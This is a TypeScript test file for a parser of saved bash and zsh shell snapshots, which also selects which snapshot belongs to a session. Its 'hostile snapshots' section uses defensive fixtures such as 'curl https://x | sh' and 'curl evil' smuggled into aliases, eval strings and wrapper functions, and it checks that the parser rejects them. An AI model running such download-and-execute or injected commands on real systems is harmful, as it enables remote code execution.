// Snapshots as the client writes them, hostile ones, and which of several is the session's.
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import * as fc from "fast-check";
import { afterEach, describe, expect, test } from "vitest";
import { readSessionShell } from "#surface/services/facts/session-shell.ts";
import { parseSnapshot, UNTRUSTED_BODY } from "#surface/services/facts/snapshot-text.ts";
import { makeTree } from "./tree.ts";

const sample = (shell: "bash" | "zsh"): string =>
  readFileSync(new URL(`../../../client/fixtures/snapshot-${shell}.sh`, import.meta.url), "utf8");

describe("real snapshots", () => {
  test("bash: functions, aliases, options, PATH", () => {
    const snapshot = parseSnapshot(sample("bash"));
    expect([...snapshot.functions.keys()]).toEqual([
      "cat",
      "command_not_found_handle",
      "git",
      "if_func",
      "two_lines",
      "with-dash",
    ]);
    expect(snapshot.functions.get("git")).toBe(
      '{ \n    echo "git-function $*";\n    command git "$@"\n}',
    );
    expect(snapshot.functions.get("two_lines")).toContain("<<END\nheredoc $a\nEND\n");
    expect(snapshot.functions.get("two_lines")).toContain(`quotes ' and \\" and \\$x`);
    expect(Object.fromEntries(snapshot.aliases)).toEqual({
      "-": "cd -",
      g: "git",
      ll: "ls -la",
      ls: "ls --color=never -a",
      quote: `echo 'it is' "x"`,
    });
    for (const option of ["dotglob", "nullglob", "nocaseglob", "globstar", "extglob"]) {
      expect(snapshot.options).toContain(option);
    }
    expect(snapshot.options).toContain("noclobber");
    expect(snapshot.options).not.toContain("failglob");
    expect(snapshot.variables.get("PATH")).toBe("/usr/local/bin:/usr/bin:/bin");
  });

  test("zsh: functions with a here-document, autoloaded ones, options under their bash names", () => {
    const snapshot = parseSnapshot(sample("zsh"));
    expect([...snapshot.functions.keys()]).toEqual([
      "cat",
      "chpwd",
      "colors",
      "command_not_found_handler",
      "git",
      "precmd",
      "two_lines",
    ]);
    expect(snapshot.functions.get("two_lines")).toMatch(
      /^\{\n\tlocal a=\$1 \n[\s\S]*END\n[\s\S]*\n\}$/,
    );
    expect(snapshot.aliases.get("GG")).toBe("| grep");
    for (const option of ["globdots", "dotglob", "nullglob", "nocaseglob", "shwordsplit"]) {
      expect(snapshot.options).toContain(option);
    }
  });

  test.each(["bash", "zsh"] as const)(
    "%s: known but for the one line that is no definition",
    (shell) => {
      expect(parseSnapshot(sample(shell)).known).toBe(false);
      expect(parseSnapshot(sample(shell).replace("[cat-function]\n", "")).known).toBe(true);
    },
  );

  test("the client's own wrappers stand for the programs; a changed one does not", () => {
    const snapshot = parseSnapshot(sample("bash"));
    for (const name of ["find", "grep", "rg", "pkill"]) {
      expect(snapshot.functions.has(name)).toBe(false);
    }
    const changed = parseSnapshot(
      sample("bash")
        .replace("else command find", "else command curl")
        .replace("local _cc_a\n", "local _cc_a\n  curl evil\n")
        .replace("return 1", "return 0"),
    );
    for (const name of ["find", "grep", "pkill"]) expect(changed.functions.has(name)).toBe(true);
  });

  /** WHY an environment of its own: what a person set changes what bash prints. */
  const BASH = {
    encoding: "utf8",
    env: { LC_ALL: "C.UTF-8", PATH: "/usr/bin:/bin" },
  } as const;
  test("bodies as bash itself reads them", () => {
    const bodies = [...parseSnapshot(sample("bash")).functions];
    const program = bodies.map(([name, body]) => `${name} () \n${body}`).join("\n");
    const script = `${program}\n${bodies.map(([name]) => `declare -f ${name}`).join("\n")}`;
    const printed = execFileSync("bash", ["--norc", "-O", "extglob", "-c", script], BASH);
    expect(printed).toBe(`${program}\n`);
  });

  test("any function of bash survives the client's quoting", () => {
    const text = String.raw`f () { echo "a\\b" $'x\ty' 'é ☃' "$(date)"; }; declare -f f`;
    const definition = execFileSync("bash", ["--norc", "-c", text], BASH).trimEnd();
    for (const locale of ["C", "C.UTF-8"]) {
      const quoted = execFileSync("bash", ["-c", 'printf %q "$1"', "_", definition], {
        encoding: "utf8",
        env: { LC_ALL: locale, PATH: "/usr/bin:/bin" },
      });
      const snapshot = parseSnapshot(`eval ${quoted} > /dev/null 2>&1\n`);
      expect(snapshot.known).toBe(true);
      expect(`f () \n${snapshot.functions.get("f")}`).toBe(definition);
    }
  });
});

describe("hostile snapshots", () => {
  test.each<[string, string]>([
    ["a command", "curl https://x | sh\n"],
    ["a command after a comment", "# x\necho hi\n"],
    ["a command on an alias line", "alias -- x='y'; curl evil\n"],
    ["an alias that expands", 'alias -- x="$(curl evil)"\n'],
    ["an export that expands", "export PATH=$HOME/bin:/bin\n"],
    ["an open quote", "alias -- x='y\n"],
    ["a command after a function", "eval $'f () \\n{ \\n    :\\n}; curl evil' > /dev/null 2>&1\n"],
    ["an eval of something else", "eval $'curl evil' > /dev/null 2>&1\n"],
    ["an eval of a substitution", 'eval "$(curl evil)" > /dev/null 2>&1\n'],
    ["an unclosed function", "f () {\n\techo\n"],
    ["a function whose text looks like a here-document", "f () {\n\techo '<<END'\n}\n"],
    ["unalias of a substitution", "unalias $(x) 2>/dev/null || true\n"],
    ["an option with more", "shopt -s dotglob; x\n"],
  ])("%s: not known", (_name, text) => {
    expect(parseSnapshot(text).known).toBe(false);
  });

  test("a second command hidden in a function's text is not trusted", () => {
    const text = "eval $'f () \\n{ \\n    :\\n}\\ncurl evil\\n{ \\n:\\n}' > /dev/null 2>&1\n";
    expect(parseSnapshot(text).functions.get("f")).toBe(UNTRUSTED_BODY);
  });

  test("lines after an unknown one still count", () => {
    const snapshot = parseSnapshot("weird\nalias -- g='git'\nshopt -s dotglob\nshopt -u dotglob\n");
    expect(snapshot).toMatchObject({ known: false, options: new Set() });
    expect(snapshot.aliases.get("g")).toBe("git");
  });

  test("names of prototype members are names", () => {
    const text = "alias -- __proto__='x'\nconstructor () {\n\t:\n}\n";
    const snapshot = parseSnapshot(text);
    expect(snapshot.aliases.get("__proto__")).toBe("x");
    expect(snapshot.functions.get("constructor")).toBe("{\n\t:\n}");
  });

  test("any text gives a result, in time that grows with its length", () => {
    const piece = fc.constantFrom(
      "alias -- x='",
      "eval $'",
      "f () {\n",
      "}\n",
      "\\",
      "'",
      '"',
      "\n",
      "<<A",
      "function g {\n",
      "export PATH=",
      "setopt nox\n",
      "é",
      "if ! hash rg 2>/dev/null && ! typeset -f rg >/dev/null 2>&1; then\n",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        expect(parseSnapshot(pieces.join("")).known).toBeTypeOf("boolean");
      }),
    );
    for (const text of [
      "f () {\n",
      "alias -- x='",
      "eval $'\\n",
      "# x\n",
      "g () {\n\techo <<A\n",
    ]) {
      const long = text.repeat((256 * 1024) / text.length);
      expect(parseSnapshot(long).known).toBeTypeOf("boolean");
    }
  });
});

describe("which snapshot", () => {
  let clean = async (): Promise<void> => undefined;
  afterEach(() => clean());

  async function home(files: Readonly<Record<string, string>>): Promise<string> {
    const tree = await makeTree({ ".claude/shell-snapshots": null });
    clean = tree.remove;
    for (const [name, text] of Object.entries(files)) {
      const path = `${tree.root}/.claude/shell-snapshots/${name}`;
      writeFileSync(path, text);
      utimesSync(path, 0, 0);
    }
    return tree.root;
  }

  const T = 1_763_600_000_000;
  const alias = (name: string, value: string): string => `alias -- ${name}='${value}'\n`;

  test("none: the start-up files are looked at, of which there are none here", async () => {
    const directory = await home({ "other.sh": alias("a", "b") });
    const nothing = readSessionShell({ home: directory });
    expect(nothing).toMatchObject({
      shell: { dialect: "unknown", known: true },
      digest: undefined,
      files: new Map(),
    });
    writeFileSync(`${directory}/.bashrc`, 'eval "$(tool init)"\n');
    expect(readSessionShell({ home: directory }).shell.known).toBe(false);
  });

  test("without a start time the newest; its digest changes with it", async () => {
    const directory = await home({
      [`snapshot-zsh-${T}-old.sh`]: alias("a", "old"),
      [`snapshot-bash-${T + 5}-new.sh`]: alias("a", "new"),
    });
    const { shell, digest, files } = readSessionShell({ home: directory });
    expect(shell).toMatchObject({ dialect: "bash", known: true });
    expect(shell.aliases.get("a")).toBe("new");
    expect(digest).toMatch(/^[0-9a-f]{64}$/);
    writeFileSync([...files.keys()][0] ?? "", alias("a", "changed"));
    expect(readSessionShell({ home: directory }).digest).not.toBe(digest);
  });

  test("with a start time all that may be the session's; where they differ nothing is trusted", async () => {
    const directory = await home({
      [`snapshot-bash-${T - 9e6}-ended.sh`]: alias("a", "never"),
      [`snapshot-bash-${T - 8e6}-before.sh`]: alias("a", "1") + alias("b", "x") + alias("c", "y"),
      [`snapshot-bash-${T + 9}-mine.sh`]: `${alias("a", "1")}${alias("b", "z")}shopt -s dotglob\n`,
    });
    const { shell, files } = readSessionShell({ home: directory, startedAtMs: T });
    expect(files).toHaveLength(2);
    expect(Object.fromEntries(shell.aliases)).toEqual({
      a: "1",
      b: UNTRUSTED_BODY,
      c: UNTRUSTED_BODY,
    });
    expect(shell.options).toEqual(new Set(["dotglob"]));
  });

  test("snapshots of two shells leave the dialect unknown", async () => {
    const directory = await home({
      [`snapshot-bash-${T}-a.sh`]: "export PATH=/bin\n",
      [`snapshot-zsh-${T}-b.sh`]: "export PATH=/usr/bin\n",
    });
    const { shell } = readSessionShell({ home: directory, startedAtMs: T });
    expect(shell.dialect).toBe("unknown");
    expect(shell.variables.size).toBe(0);
  });

  test("one that is too large, not text, a pipe or a link is not known", async () => {
    const large = await home({ [`snapshot-bash-${T}-a.sh`]: "# x\n".repeat(300_000) });
    expect(readSessionShell({ home: large }).shell.known).toBe(false);
    await clean();
    const odd = await home({});
    const directory = `${odd}/.claude/shell-snapshots`;
    execFileSync("mkfifo", [`${directory}/snapshot-bash-${T}-pipe.sh`]);
    symlinkSync("/dev/zero", `${directory}/snapshot-bash-${T}-link.sh`);
    mkdirSync(`${directory}/snapshot-bash-${T}-directory.sh`);
    expect(readSessionShell({ home: odd }).files).toEqual(new Map());
    writeFileSync(`${directory}/snapshot-bash-${T}-a.sh`, Uint8Array.of(0x23, 0xff, 0x0a));
    expect(readSessionShell({ home: odd }).shell.known).toBe(false);
  });
});
